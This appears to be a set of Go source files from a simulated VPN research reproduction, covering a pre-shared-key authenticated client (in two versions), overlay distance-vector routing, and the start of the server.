	s := newServer(node.ip, cfg)
	byOrigin := make(map[string]*session)
	node.Handle(s.cfg.ListenPort, func(st *Stream) {
		sess, ok := byOrigin[st.Origin]
		if !ok {
			sess = &session{}
			byOrigin[st.Origin] = sess
		}
		sess.gen++
		gen := sess.gen
		sess.stream = frameStream{} // the new carrier starts a fresh framing state
		sess.send = func(msg []byte) {
			if gen != sess.gen {
				return
			}
			st.Write(msg)
		}
		st.OnData = func(b []byte) {
			if gen != sess.gen {
				return // stale carrier from the pre-failover chain
			}
			for _, m := range sess.stream.push(b) {
				s.handleMsg(sess, m)
			}
		}
		// No teardown on close: the session (and its tunnel address) stays
		// reserved for the rebuilt chain, exactly like the UDP carrier.
	})
	return s, nil
}
