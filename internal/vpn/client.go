package vpn

import (
	"bytes"
	"errors"
	"fmt"

	"repro/internal/ethernet"
	"repro/internal/inet"
	"repro/internal/ipv4"
	"repro/internal/sim"
	"repro/internal/tcp"
	"repro/internal/udp"
)

// ClientConfig configures a VPN client.
type ClientConfig struct {
	// PSK is the preestablished shared secret.
	PSK []byte
	// Server is the trusted endpoint, selected out of band — never
	// discovered from the (possibly hostile) local network.
	Server  inet.HostPort
	Carrier Carrier
	// IfaceName is the tun device name (default tun0).
	IfaceName string
	// SplitTunnelPrefixes, when non-empty, routes only these prefixes
	// through the tunnel instead of all traffic. This violates the
	// paper's requirement 4 and exists as the E3 ablation demonstrating
	// why ("A solution that is local to one network will not protect the
	// client reliably").
	SplitTunnelPrefixes []inet.Prefix
	// HandshakeTimeout defaults to 10 s.
	HandshakeTimeout sim.Time

	// Keepalive enables dead-peer detection: every Keepalive the client
	// sends a sealed liveness probe, and if nothing authenticated arrives
	// for PeerTimeout it declares the peer dead and re-handshakes with
	// exponential backoff (fresh nonces, fresh keys). Zero disables the
	// whole mechanism, which is the default — a client without keepalives
	// behaves exactly as before.
	Keepalive sim.Time
	// PeerTimeout is the silence threshold (default 3×Keepalive).
	PeerTimeout sim.Time
	// ReconnectBackoffBase/Max bound the redial ladder (defaults 1 s / 30 s).
	ReconnectBackoffBase sim.Time
	ReconnectBackoffMax  sim.Time
}

func (c *ClientConfig) fill() {
	if c.IfaceName == "" {
		c.IfaceName = "tun0"
	}
	if c.HandshakeTimeout == 0 {
		c.HandshakeTimeout = 10 * sim.Second
	}
	if c.Keepalive > 0 {
		if c.PeerTimeout == 0 {
			c.PeerTimeout = 3 * c.Keepalive
		}
		if c.ReconnectBackoffBase == 0 {
			c.ReconnectBackoffBase = sim.Second
		}
		if c.ReconnectBackoffMax == 0 {
			c.ReconnectBackoffMax = 30 * sim.Second
		}
	}
}

// Client state.
type clientState int

const (
	stateIdle clientState = iota
	stateHello
	stateAuth
	stateUp
	stateDown
)

// Client is the paper's defended wireless client: once Up, every IP packet
// it originates (beyond the carrier itself) crosses the wireless segment
// only inside the authenticated tunnel.
type Client struct {
	cfg ClientConfig
	ip  *ipv4.Stack

	state    clientState
	nonceC   []byte
	seal     *sealer
	open     *opener
	stream   frameStream
	tun      *tunNIC
	tunnelIP inet.Addr
	sendMsg  func(msg []byte)
	abort    func()
	timeout  *sim.Event

	// Self-healing state (only active when cfg.Keepalive > 0). The DPD loop
	// and the reconnect ladder are the shared peer machinery (peer.go), so
	// the end-to-end tunnel and every overlay hop heal identically.
	ka         dpd
	bo         backoff
	rng        *sim.RNG
	healing    bool
	hsGen      int
	carrierGen int
	redial     func()

	// OnUp fires when the tunnel is established (with the assigned IP),
	// including again after every successful rekey.
	OnUp func(ip inet.Addr)
	// OnDown fires when the tunnel fails terminally. Self-healing
	// reconnects do not fire it — the client is still trying.
	OnDown func(err error)

	// Counters.
	PacketsIn, PacketsOut uint64
	// KeepalivesSent counts probes; PeerTimeouts counts dead-peer
	// declarations; Reconnects counts redial attempts; Rekeys counts
	// handshakes completed after the first.
	KeepalivesSent uint64
	PeerTimeouts   uint64
	Reconnects     uint64
	Rekeys         uint64
}

// ErrServerAuth means the endpoint failed mutual authentication — exactly
// the case 802.11b cannot detect and the VPN can: something on the path is
// not the trusted endpoint.
var ErrServerAuth = errors.New("vpn: server failed authentication")

// ErrHandshakeTimeout means the tunnel never came up.
var ErrHandshakeTimeout = errors.New("vpn: handshake timed out")

// TamperDetected reports record MAC failures observed by this client.
func (c *Client) TamperDetected() uint64 {
	if c.open == nil {
		return 0
	}
	return c.open.MACFailures
}

// TunnelIP reports the assigned tunnel address (zero until Up).
func (c *Client) TunnelIP() inet.Addr { return c.tunnelIP }

// Up reports whether the tunnel is established.
func (c *Client) Up() bool { return c.state == stateUp }

// Healing reports whether the client has declared its peer dead and is
// between reconnect attempts.
func (c *Client) Healing() bool { return c.healing }

// newClient builds the carrier-independent parts: state, the reconnect
// ladder, and the DPD loop (armed only once the tunnel is up).
func newClient(ip *ipv4.Stack, cfg ClientConfig) *Client {
	c := &Client{cfg: cfg, ip: ip, state: stateIdle}
	c.bo = backoff{base: cfg.ReconnectBackoffBase, max: cfg.ReconnectBackoffMax}
	c.ka = dpd{
		k: ip.Kernel(), interval: cfg.Keepalive, timeout: cfg.PeerTimeout,
		live: func() bool { return c.state == stateUp },
		probe: func() {
			c.KeepalivesSent++
			c.sendMsg(frame(msgKeepalive, c.seal.seal(nil)))
		},
		expired: func() { c.peerDead() },
	}
	return c
}

// ConnectTCP brings the tunnel up over a TCP carrier (the paper's
// PPP-over-SSH arrangement).
func ConnectTCP(ip *ipv4.Stack, t *tcp.Stack, cfg ClientConfig) (*Client, error) {
	cfg.fill()
	c := newClient(ip, cfg)
	var cur *tcp.Conn
	attach := func(conn *tcp.Conn) {
		cur = conn
		c.carrierGen++
		gen := c.carrierGen
		c.sendMsg = func(msg []byte) { _ = conn.Write(msg) }
		c.abort = conn.Abort
		conn.OnConnect = func() { c.begin() }
		conn.OnData = func(b []byte) {
			if gen != c.carrierGen {
				return // late bytes from a replaced carrier
			}
			for _, m := range c.stream.push(b) {
				c.handleMsg(m)
			}
		}
		conn.OnClose = func(err error) {
			if gen != c.carrierGen {
				return
			}
			switch {
			case c.state == stateUp && c.cfg.Keepalive > 0:
				// The carrier died under an established tunnel: no need to
				// wait out PeerTimeout, the peer is already known dead.
				c.peerDead()
			case c.state != stateUp && c.state != stateDown:
				if c.healing {
					c.state = stateIdle
					c.scheduleReconnect()
				} else {
					c.fail(fmt.Errorf("vpn: carrier closed during handshake: %w", errOr(err)))
				}
			}
		}
	}
	c.redial = func() {
		// Orphan the dead carrier before killing it so its OnClose (stale
		// generation) cannot re-enter the reconnect machinery.
		c.carrierGen++
		if cur != nil {
			cur.Abort()
			cur = nil
		}
		c.stream = frameStream{} // drop half-parsed bytes from the dead carrier
		conn, err := t.Dial(cfg.Server)
		if err != nil {
			c.scheduleReconnect()
			return
		}
		attach(conn)
		c.armTimeout()
	}
	conn, err := t.Dial(cfg.Server)
	if err != nil {
		return nil, err
	}
	attach(conn)
	c.armTimeout()
	return c, nil
}

// ConnectUDP brings the tunnel up over a UDP carrier.
func ConnectUDP(ip *ipv4.Stack, u *udp.Stack, cfg ClientConfig) (*Client, error) {
	cfg.fill()
	c := newClient(ip, cfg)
	sock, err := u.Bind(0)
	if err != nil {
		return nil, err
	}
	var lastMsg []byte
	c.sendMsg = func(msg []byte) {
		lastMsg = msg
		_ = sock.SendTo(cfg.Server, msg[2:]) // datagrams skip stream framing
	}
	c.abort = sock.Close
	sock.SetReceiver(func(src inet.HostPort, payload []byte) {
		if src != cfg.Server {
			return
		}
		c.handleMsg(payload)
	})
	// UDP handshake retries: resend the last handshake message each second
	// until the tunnel is up. Each redial starts a fresh generation of the
	// loop; the old one sees the bumped hsGen and dies.
	start := func() {
		gen := c.hsGen
		var retry func(n int)
		retry = func(n int) {
			if gen != c.hsGen || c.state == stateUp || c.state == stateDown || n > 8 {
				return
			}
			if lastMsg != nil {
				_ = sock.SendTo(cfg.Server, lastMsg[2:])
			}
			ip.Kernel().ScheduleAfter(sim.Second, func() { retry(n + 1) })
		}
		ip.Kernel().ScheduleAfter(sim.Second, func() { retry(0) })
	}
	c.redial = func() {
		c.hsGen++
		c.begin()
		c.armTimeout()
		start()
	}
	// Initial connect. The ordering (retry armed, then hello, then timeout)
	// is load-bearing: it fixes event sequence numbers, so rearranging it
	// would shift every UDP-carrier scenario digest.
	start()
	c.begin()
	c.armTimeout()
	return c, nil
}

func errOr(err error) error {
	if err == nil {
		return errors.New("closed")
	}
	return err
}

func (c *Client) armTimeout() {
	c.timeout = c.ip.Kernel().After(c.cfg.HandshakeTimeout, func() {
		if c.state == stateUp {
			return
		}
		if c.healing {
			// A failed re-handshake is not terminal — back off and retry.
			c.state = stateIdle
			c.scheduleReconnect()
			return
		}
		c.fail(ErrHandshakeTimeout)
	})
}

func (c *Client) begin() {
	c.state = stateHello
	c.nonceC = make([]byte, nonceLen)
	c.ip.Kernel().RNG().Bytes(c.nonceC)
	c.sendMsg(frame(msgClientHello, c.nonceC))
}

func (c *Client) fail(err error) {
	if c.state == stateDown {
		return
	}
	c.state = stateDown
	if c.timeout != nil {
		c.timeout.Cancel()
	}
	c.ka.stop()
	if c.abort != nil {
		c.abort()
	}
	if c.OnDown != nil {
		c.OnDown(err)
	}
}

func (c *Client) handleMsg(msg []byte) {
	if len(msg) == 0 {
		return
	}
	typ, body := msg[0], msg[1:]
	switch typ {
	case msgServerHello:
		if c.state != stateHello {
			return
		}
		nonceS, proof, ok := splitServerHello(body)
		if !ok {
			return
		}
		// Authenticate the SERVER before anything else: paper §5.2 — a
		// hotspot-provided endpoint proves nothing; ours must know the PSK.
		if !bytes.Equal(proof, authTag(c.cfg.PSK, "server", c.nonceC, nonceS)) {
			c.fail(ErrServerAuth)
			return
		}
		c.seal, c.open = initiatorKeys(c.cfg.PSK, c.nonceC, nonceS)
		c.state = stateAuth
		c.ka.bump()
		c.sendMsg(frame(msgClientAuth, authTag(c.cfg.PSK, "client", c.nonceC, nonceS)))
	case msgAssignIP:
		if c.state != stateAuth {
			return
		}
		plain, err := c.open.open(body)
		if err != nil || len(plain) != 5 {
			return
		}
		var ip inet.Addr
		copy(ip[:], plain[:4])
		c.tunnelIP = ip
		c.ka.bump()
		bits := int(plain[4])
		mask := inet.Prefix{Bits: bits}.Mask().Uint32()
		c.bringUp(inet.Prefix{Addr: inet.AddrFromUint32(ip.Uint32() & mask), Bits: bits})
	case msgData:
		if c.state != stateUp {
			return
		}
		inner, err := c.open.open(body)
		if err != nil {
			return
		}
		c.PacketsIn++
		c.ka.bump()
		c.tun.deliver(inner)
	case msgKeepalive:
		if c.state != stateUp || c.open == nil {
			return
		}
		if _, err := c.open.open(body); err != nil {
			return
		}
		c.ka.bump()
	}
}

// bringUp creates the tun device and installs the all-traffic routes. On a
// rekey the device, routes and (normally) the address already exist, so it
// only flips the state back to up.
func (c *Client) bringUp(prefix inet.Prefix) {
	if c.timeout != nil {
		c.timeout.Cancel()
	}
	if c.tun == nil {
		c.tun = newTunNIC(ethernet.MAC{0x02, 0xf0, 0x0d, 0x00, 0x02, 0x00}, func(ipPacket []byte) {
			c.PacketsOut++
			c.sendMsg(frame(msgData, c.seal.seal(ipPacket)))
		})
		c.ip.AddIface(c.cfg.IfaceName, c.tun, c.tunnelIP, prefix)

		// Pin the carrier's path to the physical network first, then steer
		// everything else into the tunnel.
		if r, ok := c.ip.LookupRoute(c.cfg.Server.Addr); ok && r.Iface != c.cfg.IfaceName {
			c.ip.AddRoute(ipv4.Route{
				Prefix:  inet.Prefix{Addr: c.cfg.Server.Addr, Bits: 32},
				Gateway: r.Gateway, Iface: r.Iface,
			})
		}
		if len(c.cfg.SplitTunnelPrefixes) == 0 {
			// Full tunnel, OpenVPN redirect-gateway style: two /1 routes beat
			// any default route without touching it.
			c.ip.AddRoute(ipv4.Route{Prefix: inet.MustParsePrefix("0.0.0.0/1"), Iface: c.cfg.IfaceName})
			c.ip.AddRoute(ipv4.Route{Prefix: inet.MustParsePrefix("128.0.0.0/1"), Iface: c.cfg.IfaceName})
		} else {
			for _, p := range c.cfg.SplitTunnelPrefixes {
				c.ip.AddRoute(ipv4.Route{Prefix: p, Iface: c.cfg.IfaceName})
			}
		}
	} else if ifc := c.ip.Iface(c.cfg.IfaceName); ifc != nil && ifc.Addr != c.tunnelIP {
		// The server handed out a different address (a carrier reconnect
		// built a fresh server-side session): move the interface.
		ifc.Addr = c.tunnelIP
	}
	c.state = stateUp
	if c.healing {
		c.healing = false
		c.Rekeys++
	}
	c.bo.reset()
	c.startKeepalive()
	if c.OnUp != nil {
		c.OnUp(c.tunnelIP)
	}
}

// startKeepalive arms the shared dead-peer-detection loop. The RNG fork is
// lazy so clients without keepalives never draw from the kernel RNG and
// existing scenario digests are untouched.
func (c *Client) startKeepalive() {
	if c.cfg.Keepalive <= 0 {
		return
	}
	if c.rng == nil {
		c.rng = c.ip.Kernel().RNG().Fork()
	}
	c.ka.start()
}

// peerDead transitions an up tunnel into the self-healing loop.
func (c *Client) peerDead() {
	c.PeerTimeouts++
	c.healing = true
	c.state = stateIdle
	c.ka.stop()
	c.scheduleReconnect()
}

// scheduleReconnect arms the next redial on the shared exponential ladder.
func (c *Client) scheduleReconnect() {
	if c.state == stateDown {
		return
	}
	if c.rng == nil {
		c.rng = c.ip.Kernel().RNG().Fork()
	}
	d := c.bo.next(c.rng)
	c.ip.Kernel().ScheduleAfter(d, func() {
		if c.state != stateIdle {
			return
		}
		c.Reconnects++
		c.redial()
	})
}
