package vpn

import (
	"bytes"
	"errors"
	"fmt"

	"repro/internal/ethernet"
	"repro/internal/inet"
	"repro/internal/ipv4"
	"repro/internal/sim"
	"repro/internal/tcp"
	"repro/internal/udp"
)

// ClientConfig configures a VPN client.
type ClientConfig struct {
	// PSK is the preestablished shared secret.
	PSK []byte
	// Server is the trusted endpoint, selected out of band — never
	// discovered from the (possibly hostile) local network.
	Server  inet.HostPort
	Carrier Carrier
	// IfaceName is the tun device name (default tun0).
	IfaceName string
	// SplitTunnelPrefixes, when non-empty, routes only these prefixes
	// through the tunnel instead of all traffic. This violates the
	// paper's requirement 4 and exists as the E3 ablation demonstrating
	// why ("A solution that is local to one network will not protect the
	// client reliably").
	SplitTunnelPrefixes []inet.Prefix
	// HandshakeTimeout defaults to 10 s.
	HandshakeTimeout sim.Time
}

func (c *ClientConfig) fill() {
	if c.IfaceName == "" {
		c.IfaceName = "tun0"
	}
	if c.HandshakeTimeout == 0 {
		c.HandshakeTimeout = 10 * sim.Second
	}
}

// Client state.
type clientState int

const (
	stateIdle clientState = iota
	stateHello
	stateAuth
	stateUp
	stateDown
)

// Client is the paper's defended wireless client: once Up, every IP packet
// it originates (beyond the carrier itself) crosses the wireless segment
// only inside the authenticated tunnel.
type Client struct {
	cfg ClientConfig
	ip  *ipv4.Stack

	state    clientState
	nonceC   []byte
	seal     *sealer
	open     *opener
	stream   frameStream
	tun      *tunNIC
	tunnelIP inet.Addr
	sendMsg  func(msg []byte)
	abort    func()
	timeout  *sim.Event

	// OnUp fires when the tunnel is established (with the assigned IP).
	OnUp func(ip inet.Addr)
	// OnDown fires when the tunnel fails or is rejected.
	OnDown func(err error)

	// Counters.
	PacketsIn, PacketsOut uint64
}

// ErrServerAuth means the endpoint failed mutual authentication — exactly
// the case 802.11b cannot detect and the VPN can: something on the path is
// not the trusted endpoint.
var ErrServerAuth = errors.New("vpn: server failed authentication")

// ErrHandshakeTimeout means the tunnel never came up.
var ErrHandshakeTimeout = errors.New("vpn: handshake timed out")

// TamperDetected reports record MAC failures observed by this client.
func (c *Client) TamperDetected() uint64 {
	if c.open == nil {
		return 0
	}
	return c.open.MACFailures
}

// TunnelIP reports the assigned tunnel address (zero until Up).
func (c *Client) TunnelIP() inet.Addr { return c.tunnelIP }

// Up reports whether the tunnel is established.
func (c *Client) Up() bool { return c.state == stateUp }

// ConnectTCP brings the tunnel up over a TCP carrier (the paper's
// PPP-over-SSH arrangement).
func ConnectTCP(ip *ipv4.Stack, t *tcp.Stack, cfg ClientConfig) (*Client, error) {
	cfg.fill()
	c := &Client{cfg: cfg, ip: ip, state: stateIdle}
	conn, err := t.Dial(cfg.Server)
	if err != nil {
		return nil, err
	}
	c.sendMsg = func(msg []byte) { _ = conn.Write(msg) }
	c.abort = conn.Abort
	conn.OnConnect = func() { c.begin() }
	conn.OnData = func(b []byte) {
		for _, m := range c.stream.push(b) {
			c.handleMsg(m)
		}
	}
	conn.OnClose = func(err error) {
		if c.state != stateUp && c.state != stateDown {
			c.fail(fmt.Errorf("vpn: carrier closed during handshake: %w", errOr(err)))
		}
	}
	c.armTimeout()
	return c, nil
}

// ConnectUDP brings the tunnel up over a UDP carrier.
func ConnectUDP(ip *ipv4.Stack, u *udp.Stack, cfg ClientConfig) (*Client, error) {
	cfg.fill()
	c := &Client{cfg: cfg, ip: ip, state: stateIdle}
	sock, err := u.Bind(0)
	if err != nil {
		return nil, err
	}
	var lastMsg []byte
	c.sendMsg = func(msg []byte) {
		lastMsg = msg
		_ = sock.SendTo(cfg.Server, msg[2:]) // datagrams skip stream framing
	}
	c.abort = sock.Close
	sock.SetReceiver(func(src inet.HostPort, payload []byte) {
		if src != cfg.Server {
			return
		}
		c.handleMsg(payload)
	})
	// UDP handshake retries: resend the last handshake message each second
	// until the tunnel is up.
	var retry func(n int)
	retry = func(n int) {
		if c.state == stateUp || c.state == stateDown || n > 8 {
			return
		}
		if lastMsg != nil {
			_ = sock.SendTo(cfg.Server, lastMsg[2:])
		}
		ip.Kernel().After(sim.Second, func() { retry(n + 1) })
	}
	ip.Kernel().After(sim.Second, func() { retry(0) })
	c.begin()
	c.armTimeout()
	return c, nil
}

func errOr(err error) error {
	if err == nil {
		return errors.New("closed")
	}
	return err
}

func (c *Client) armTimeout() {
	c.timeout = c.ip.Kernel().After(c.cfg.HandshakeTimeout, func() {
		if c.state != stateUp {
			c.fail(ErrHandshakeTimeout)
		}
	})
}

func (c *Client) begin() {
	c.state = stateHello
	c.nonceC = make([]byte, nonceLen)
	c.ip.Kernel().RNG().Bytes(c.nonceC)
	c.sendMsg(frame(msgClientHello, c.nonceC))
}

func (c *Client) fail(err error) {
	if c.state == stateDown {
		return
	}
	c.state = stateDown
	if c.timeout != nil {
		c.timeout.Cancel()
	}
	if c.abort != nil {
		c.abort()
	}
	if c.OnDown != nil {
		c.OnDown(err)
	}
}

func (c *Client) handleMsg(msg []byte) {
	if len(msg) == 0 {
		return
	}
	typ, body := msg[0], msg[1:]
	switch typ {
	case msgServerHello:
		if c.state != stateHello || len(body) != nonceLen+32 {
			return
		}
		nonceS := body[:nonceLen]
		// Authenticate the SERVER before anything else: paper §5.2 — a
		// hotspot-provided endpoint proves nothing; ours must know the PSK.
		want := authTag(c.cfg.PSK, "server", c.nonceC, nonceS)
		if !bytes.Equal(body[nonceLen:], want) {
			c.fail(ErrServerAuth)
			return
		}
		keys := deriveKeys(c.cfg.PSK, c.nonceC, nonceS)
		c.seal = newSealer(keys.encC2S, keys.macC2S[:])
		c.open = newOpener(keys.encS2C, keys.macS2C[:])
		c.state = stateAuth
		c.sendMsg(frame(msgClientAuth, authTag(c.cfg.PSK, "client", c.nonceC, nonceS)))
	case msgAssignIP:
		if c.state != stateAuth {
			return
		}
		plain, err := c.open.open(body)
		if err != nil || len(plain) != 5 {
			return
		}
		var ip inet.Addr
		copy(ip[:], plain[:4])
		c.tunnelIP = ip
		bits := int(plain[4])
		mask := inet.Prefix{Bits: bits}.Mask().Uint32()
		c.bringUp(inet.Prefix{Addr: inet.AddrFromUint32(ip.Uint32() & mask), Bits: bits})
	case msgData:
		if c.state != stateUp {
			return
		}
		inner, err := c.open.open(body)
		if err != nil {
			return
		}
		c.PacketsIn++
		c.tun.deliver(inner)
	}
}

// bringUp creates the tun device and installs the all-traffic routes.
func (c *Client) bringUp(prefix inet.Prefix) {
	if c.timeout != nil {
		c.timeout.Cancel()
	}
	c.tun = newTunNIC(ethernet.MAC{0x02, 0xf0, 0x0d, 0x00, 0x02, 0x00}, func(ipPacket []byte) {
		c.PacketsOut++
		c.sendMsg(frame(msgData, c.seal.seal(ipPacket)))
	})
	c.ip.AddIface(c.cfg.IfaceName, c.tun, c.tunnelIP, prefix)

	// Pin the carrier's path to the physical network first, then steer
	// everything else into the tunnel.
	if r, ok := c.ip.LookupRoute(c.cfg.Server.Addr); ok && r.Iface != c.cfg.IfaceName {
		c.ip.AddRoute(ipv4.Route{
			Prefix:  inet.Prefix{Addr: c.cfg.Server.Addr, Bits: 32},
			Gateway: r.Gateway, Iface: r.Iface,
		})
	}
	if len(c.cfg.SplitTunnelPrefixes) == 0 {
		// Full tunnel, OpenVPN redirect-gateway style: two /1 routes beat
		// any default route without touching it.
		c.ip.AddRoute(ipv4.Route{Prefix: inet.MustParsePrefix("0.0.0.0/1"), Iface: c.cfg.IfaceName})
		c.ip.AddRoute(ipv4.Route{Prefix: inet.MustParsePrefix("128.0.0.0/1"), Iface: c.cfg.IfaceName})
	} else {
		for _, p := range c.cfg.SplitTunnelPrefixes {
			c.ip.AddRoute(ipv4.Route{Prefix: p, Iface: c.cfg.IfaceName})
		}
	}
	c.state = stateUp
	if c.OnUp != nil {
		c.OnUp(c.tunnelIP)
	}
}
