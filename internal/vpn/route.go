package vpn

import (
	"fmt"
	"sort"
	"strings"

	"repro/internal/inet"
)

// Flood-based distance-vector routing for the overlay (overlay.go): each
// node advertises the prefixes it terminates at 1 hop, neighbours re-flood
// reachable prefixes at best+1 with poisoned reverse back toward the next
// hop, and withdrawals (hops = 0xff) flood everywhere. Metrics cap at the
// node's MaxHops, which bounds count-to-infinity churn.

// DefaultMaxHops is the metric ceiling: an advertisement at or beyond it is
// a withdrawal.
const DefaultMaxHops = 16

// hopsUnreachable is the on-wire withdrawal metric.
const hopsUnreachable = 0xff

// adEntry is one advertised prefix: where it can be reached and how far
// away it is (in overlay links, from the receiver's point of view).
type adEntry struct {
	prefix inet.Prefix
	hops   int
}

// adEntrySize is the wire size of one entry: addr(4) || bits(1) || hops(1).
const adEntrySize = 6

// encodeRouteAd packs advertisement entries into an ovRouteAdv body.
func encodeRouteAd(entries []adEntry) []byte {
	out := make([]byte, 0, len(entries)*adEntrySize)
	for _, e := range entries {
		out = append(out, e.prefix.Addr[:]...)
		out = append(out, byte(e.prefix.Bits), byte(e.hops))
	}
	return out
}

// decodeRouteAd parses an ovRouteAdv body. Prefixes must be canonical (no
// host bits set) so one route cannot masquerade as many table entries.
func decodeRouteAd(body []byte) ([]adEntry, bool) {
	if len(body)%adEntrySize != 0 || len(body)/adEntrySize > 256 {
		return nil, false
	}
	entries := make([]adEntry, 0, len(body)/adEntrySize)
	for i := 0; i < len(body); i += adEntrySize {
		var a inet.Addr
		copy(a[:], body[i:i+4])
		p := inet.Prefix{Addr: a, Bits: int(body[i+4])}
		if p.Bits > 32 || a.Uint32()&p.Mask().Uint32() != a.Uint32() {
			return nil, false
		}
		entries = append(entries, adEntry{prefix: p, hops: int(body[i+5])})
	}
	return entries, true
}

// bestRoute is the selected next hop for one prefix.
type bestRoute struct {
	linkSeq int
	hops    int
}

// routeTable holds every candidate route per prefix (one per link) plus the
// deterministic best selection. Prefixes keep first-seen order so floods,
// lookups, and debug dumps never depend on map iteration.
type routeTable struct {
	cands map[inet.Prefix]map[int]int // prefix -> linkSeq -> hops
	best  map[inet.Prefix]bestRoute   // present only while reachable
	order []inet.Prefix               // first-seen prefix order
}

func newRouteTable() routeTable {
	return routeTable{
		cands: make(map[inet.Prefix]map[int]int),
		best:  make(map[inet.Prefix]bestRoute),
	}
}

// update records one advertisement (hops >= maxHops withdraws the link's
// candidate) and reports whether the prefix's best route changed.
func (rt *routeTable) update(p inet.Prefix, linkSeq, hops, maxHops int) bool {
	c, ok := rt.cands[p]
	if !ok {
		if hops >= maxHops {
			return false // withdrawing a route we never had
		}
		c = make(map[int]int)
		rt.cands[p] = c
		rt.order = append(rt.order, p)
	}
	if hops >= maxHops {
		if _, had := c[linkSeq]; !had {
			return false
		}
		delete(c, linkSeq)
	} else {
		if old, had := c[linkSeq]; had && old == hops {
			return false
		}
		c[linkSeq] = hops
	}
	return rt.recompute(p)
}

// recompute re-derives best[p]: fewest hops, ties to the lowest link
// sequence. Minimum over the candidate map is order-independent, so the
// result is deterministic regardless of iteration order.
func (rt *routeTable) recompute(p inet.Prefix) bool {
	old, had := rt.best[p]
	nb, found := bestRoute{}, false
	for seq, hops := range rt.cands[p] {
		if !found || hops < nb.hops || (hops == nb.hops && seq < nb.linkSeq) {
			nb, found = bestRoute{linkSeq: seq, hops: hops}, true
		}
	}
	switch {
	case !found && !had:
		return false
	case !found:
		delete(rt.best, p)
		return true
	case had && old == nb:
		return false
	}
	rt.best[p] = nb
	return true
}

// dropLink withdraws every candidate learned over linkSeq, returning the
// prefixes whose best route changed (in first-seen order).
func (rt *routeTable) dropLink(linkSeq int) []inet.Prefix {
	var changed []inet.Prefix
	for _, p := range rt.order {
		c := rt.cands[p]
		if _, had := c[linkSeq]; !had {
			continue
		}
		delete(c, linkSeq)
		if rt.recompute(p) {
			changed = append(changed, p)
		}
	}
	return changed
}

// lookup selects the forwarding link for dst: longest matching prefix, then
// fewest hops, then first-seen order.
func (rt *routeTable) lookup(dst inet.Addr) (linkSeq int, ok bool) {
	bestBits, bestHops := -1, 0
	for _, p := range rt.order {
		b, reach := rt.best[p]
		if !reach || !p.Contains(dst) {
			continue
		}
		if p.Bits > bestBits || (p.Bits == bestBits && b.hops < bestHops) {
			bestBits, bestHops = p.Bits, b.hops
			linkSeq, ok = b.linkSeq, true
		}
	}
	return linkSeq, ok
}

// reachable returns the reachable prefixes in first-seen order.
func (rt *routeTable) reachable() []inet.Prefix {
	var out []inet.Prefix
	for _, p := range rt.order {
		if _, ok := rt.best[p]; ok {
			out = append(out, p)
		}
	}
	return out
}

// dump renders the table deterministically (sorted by prefix string) for
// experiment reports and tests.
func (rt *routeTable) dump() string {
	lines := make([]string, 0, len(rt.best))
	for _, p := range rt.order {
		if b, ok := rt.best[p]; ok {
			lines = append(lines, fmt.Sprintf("%s via link%d hops=%d", p, b.linkSeq, b.hops))
		}
	}
	sort.Strings(lines)
	return strings.Join(lines, "\n")
}
