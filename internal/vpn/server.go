package vpn

import (
	"fmt"
	"sort"

	"repro/internal/ethernet"
	"repro/internal/inet"
	"repro/internal/ipv4"
	"repro/internal/tcp"
	"repro/internal/udp"
)

// Carrier selects the tunnel transport.
type Carrier int

// Carriers. The paper's PPP-over-SSH is a TCP carrier; CarrierUDP is the
// E6 ablation that avoids TCP-over-TCP.
const (
	CarrierTCP Carrier = iota
	CarrierUDP
)

// String names the carrier.
func (c Carrier) String() string {
	if c == CarrierUDP {
		return "udp"
	}
	return "tcp"
}

// DefaultPort is the tunnel service port.
const DefaultPort inet.Port = 4789

// ServerConfig configures a VPN endpoint.
type ServerConfig struct {
	// PSK is the preestablished shared secret (paper requirement 2).
	PSK []byte
	// ListenPort defaults to DefaultPort.
	ListenPort inet.Port
	Carrier    Carrier
	// TunnelPrefix is the virtual subnet; the server takes its first host
	// address and assigns the rest to clients. Default 10.99.0.0/24.
	TunnelPrefix inet.Prefix
	// IfaceName is the tun device name on the server stack (default tun0).
	IfaceName string
}

func (c *ServerConfig) fill() {
	if c.ListenPort == 0 {
		c.ListenPort = DefaultPort
	}
	if c.TunnelPrefix.Bits == 0 {
		c.TunnelPrefix = inet.MustParsePrefix("10.99.0.0/24")
	}
	if c.IfaceName == "" {
		c.IfaceName = "tun0"
	}
}

// session is one authenticated client on the server.
type session struct {
	tunnelIP inet.Addr
	seal     *sealer
	open     *opener
	stream   frameStream
	hs       handshakeState
	// gen is the carrier generation (stream carrier): bumped when a rebuilt
	// chain attaches, so a stale pre-failover carrier cannot deliver.
	gen int
	// send transmits a framed message to this client over its carrier.
	send func(msg []byte)
}

// Server is the trusted VPN endpoint on the wired network.
type Server struct {
	cfg ServerConfig
	ip  *ipv4.Stack
	tun *tunNIC
	// sessions by tunnel IP (for routing return traffic).
	sessions map[inet.Addr]*session
	nextHost uint32

	// Counters.
	Handshakes     uint64
	AuthFailures   uint64
	PacketsIn      uint64
	PacketsOut     uint64
	NoSessionDrops uint64
	// Keepalives counts authenticated liveness probes answered; Rekeys counts
	// handshakes that replaced the keys of an already-authenticated session.
	Keepalives uint64
	Rekeys     uint64
}

// serverTunIP is the server's own address inside the tunnel subnet.
func (s *Server) serverTunIP() inet.Addr {
	return inet.AddrFromUint32(s.cfg.TunnelPrefix.Addr.Uint32() + 1)
}

// SessionIPs lists the assigned tunnel addresses of the authenticated
// sessions in address order — a deterministic view of who holds a lease.
func (s *Server) SessionIPs() []inet.Addr {
	out := make([]inet.Addr, 0, len(s.sessions))
	for ip := range s.sessions {
		out = append(out, ip)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Uint32() < out[j].Uint32() })
	return out
}

// TamperDetected sums MAC failures across sessions — evidence of on-path
// modification attempts.
func (s *Server) TamperDetected() uint64 {
	var n uint64
	for _, sess := range s.sessions {
		n += sess.open.MACFailures
	}
	return n
}

// newServer builds the shared parts.
func newServer(ip *ipv4.Stack, cfg ServerConfig) *Server {
	cfg.fill()
	s := &Server{cfg: cfg, ip: ip, sessions: make(map[inet.Addr]*session), nextHost: 1}
	s.tun = newTunNIC(ethernet.MAC{0x02, 0xf0, 0x0d, 0x00, 0x01, 0x00}, s.tunOutbound)
	ip.AddIface(cfg.IfaceName, s.tun, s.serverTunIP(), cfg.TunnelPrefix)
	return s
}

// tunOutbound routes return traffic to the owning client session.
func (s *Server) tunOutbound(ipPacket []byte) {
	pkt, err := ipv4.Unmarshal(ipPacket)
	if err != nil {
		return
	}
	sess, ok := s.sessions[pkt.Dst]
	if !ok || !sess.hs.authed {
		s.NoSessionDrops++
		return
	}
	s.PacketsOut++
